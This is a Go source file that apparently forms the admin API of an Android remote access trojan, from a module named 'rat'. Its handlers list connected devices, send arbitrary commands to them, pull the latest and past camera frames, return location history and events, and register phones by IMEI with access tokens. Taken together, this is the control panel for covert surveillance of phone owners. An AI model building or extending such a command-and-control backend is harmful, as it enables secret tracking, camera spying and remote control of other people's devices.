package handler

import (
	"errors"
	"net/http"
	"strconv"

	"github.com/Sp1ker2/rat/internal/auth"
	"github.com/Sp1ker2/rat/internal/errs"
	"github.com/Sp1ker2/rat/internal/hub"
	"github.com/Sp1ker2/rat/internal/model"
	"github.com/Sp1ker2/rat/internal/session"
	"github.com/Sp1ker2/rat/internal/storage"
	"github.com/gin-gonic/gin"
	"github.com/google/uuid"
)

// DeviceHandler handles the admin-facing REST API for devices.
type DeviceHandler struct {
	registry *session.Registry
	hub      *hub.Hub
	store    storage.Store
}

// NewDeviceHandler creates the device handler.
func NewDeviceHandler(registry *session.Registry, h *hub.Hub, store storage.Store) *DeviceHandler {
	return &DeviceHandler{registry: registry, hub: h, store: store}
}

// ListDevices godoc
// GET /api/devices
func (h *DeviceHandler) ListDevices(c *gin.Context) {
	c.JSON(http.StatusOK, h.registry.All())
}

// GetDevice godoc
// GET /api/devices/:id
func (h *DeviceHandler) GetDevice(c *gin.Context) {
	sess := h.registry.Get(c.Param("id"))
	if sess == nil {
		c.JSON(http.StatusNotFound, gin.H{"error": "device not found"})
		return
	}
	c.JSON(http.StatusOK, sess)
}

// SendCommand godoc
// POST /api/devices/:id/command
func (h *DeviceHandler) SendCommand(c *gin.Context) {
	var req model.CommandRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	ok := h.hub.SendCommand(c.Request.Context(), c.Param("id"), model.Command{
		Command: req.Command,
		Data:    req.Data,
	})
	if !ok {
		c.JSON(http.StatusNotFound, gin.H{"error": "device not connected"})
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": "success", "message": "command sent"})
}

// GetLatestFrame godoc
// GET /api/devices/:id/camera/:camera
func (h *DeviceHandler) GetLatestFrame(c *gin.Context) {
	frame, err := h.store.GetLatestFrame(c.Request.Context(), c.Param("id"), c.Param("camera"))
	if err != nil {
		if errors.Is(err, errs.ErrFrameNotFound) {
			c.JSON(http.StatusNotFound, gin.H{"error": "no frame available"})
			return
		}
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to get frame"})
		return
	}
	c.Data(http.StatusOK, "image/jpeg", frame.FrameData)
}

// GetFrameHistory godoc
// GET /api/devices/:id/camera/:camera/history
func (h *DeviceHandler) GetFrameHistory(c *gin.Context) {
	limit, offset := pagination(c)
	frames, err := h.store.GetFrameHistory(c.Request.Context(), c.Param("id"), c.Param("camera"), limit, offset)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to get frame history"})
		return
	}
	meta := make([]model.FrameMeta, 0, len(frames))
	for i := range frames {
		meta = append(meta, frames[i].Meta())
	}
	c.JSON(http.StatusOK, gin.H{"device_id": c.Param("id"), "camera": c.Param("camera"), "frames": meta})
}

// GetLocationHistory godoc
// GET /api/devices/:id/location
func (h *DeviceHandler) GetLocationHistory(c *gin.Context) {
	limit, offset := pagination(c)
	fixes, err := h.store.GetLocationHistory(c.Request.Context(), c.Param("id"), limit, offset)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to get location history"})
		return
	}
	history := make([]model.LocationFix, 0, len(fixes))
	for i := range fixes {
		history = append(history, fixes[i].Fix())
	}
	c.JSON(http.StatusOK, gin.H{"device_id": c.Param("id"), "history": history})
}

// GetEvents godoc
// GET /api/devices/:id/events?type=...
func (h *DeviceHandler) GetEvents(c *gin.Context) {
	limit, offset := pagination(c)
	events, err := h.store.GetDeviceEvents(c.Request.Context(), c.Param("id"), c.Query("type"), limit, offset)
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to get events"})
		return
	}
	c.JSON(http.StatusOK, gin.H{"device_id": c.Param("id"), "events": events})
}

// RegisterDevice godoc
// POST /api/devices/register — manual pre-registration with a minted token.
func (h *DeviceHandler) RegisterDevice(c *gin.Context) {
	var req model.RegisterDeviceRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "invalid request", "message": err.Error()})
		return
	}
	id := uuid.New().String()
	token := auth.GenerateDeviceToken()
	_, err := h.store.CreateDevice(c.Request.Context(), id, req.Name, token, storage.DeviceAttrs{
		IMEI:           req.IMEI,
		Model:          req.Model,
		Manufacturer:   req.Manufacturer,
		AndroidVersion: req.AndroidVersion,
		SDK:            req.SDK,
	})
	if err != nil {
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to register device"})
		return
	}
	c.JSON(http.StatusCreated, model.RegisterDeviceResponse{DeviceID: id, Token: token})
}

// RegenerateToken godoc
// POST /api/devices/:id/token/regenerate
func (h *DeviceHandler) RegenerateToken(c *gin.Context) {
	token := auth.GenerateDeviceToken()
	_, err := h.store.UpdateDeviceToken(c.Request.Context(), c.Param("id"), token)
	if err != nil {
		if errors.Is(err, errs.ErrDeviceNotFound) {
			c.JSON(http.StatusNotFound, gin.H{"error": "device not found"})
			return
		}
		c.JSON(http.StatusInternalServerError, gin.H{"error": "failed to regenerate token"})
		return
	}
	c.JSON(http.StatusOK, model.RegisterDeviceResponse{DeviceID: c.Param("id"), Token: token})
}

// Stats godoc
// GET /api/stats
func (h *DeviceHandler) Stats(c *gin.Context) {
	_, admins := h.hub.Counts()
	c.JSON(http.StatusOK, model.StatsResponse{
		TotalDevices:     len(h.registry.All()),
		OnlineDevices:    len(h.registry.Online()),
		AdminConnections: admins,
	})
}

func pagination(c *gin.Context) (limit, offset int) {
	limit, _ = strconv.Atoi(c.DefaultQuery("limit", "100"))
	offset, _ = strconv.Atoi(c.DefaultQuery("offset", "0"))
	if limit <= 0 || limit > 1000 {
		limit = 100
	}
	if offset < 0 {
		offset = 0
	}
	return limit, offset
}
